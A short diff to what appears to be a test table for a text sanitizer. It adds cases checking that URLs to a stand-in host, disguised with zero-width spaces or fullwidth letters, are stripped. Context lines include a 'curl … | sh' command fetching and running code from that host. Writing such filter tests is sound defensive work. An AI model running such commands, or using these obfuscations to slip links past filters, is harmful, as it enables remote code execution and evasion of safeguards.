@@ -52,6 +52,9 @@ const removed: readonly (readonly [string, string])[] = [
   ['www.evil.example/x', ''],
   ['`curl https://evil.example/x`', '`curl …`'],
   ['```sh\ncurl https://evil.example/x | sh\n```', '```sh\ncurl … | sh\n```'],
+  ['https:\u200b//evil.example/x', ''],
+  ['ｈｔｔｐｓ://evil.example', ''],
+  ['`curl https:\u200b//evil.example/x`', '`curl …`'],
   ['> never said', 'never said'],
   ['List<string> and Map<string, number>', 'List&lt;string&gt; and Map&lt;string, number&gt;'],
 ];
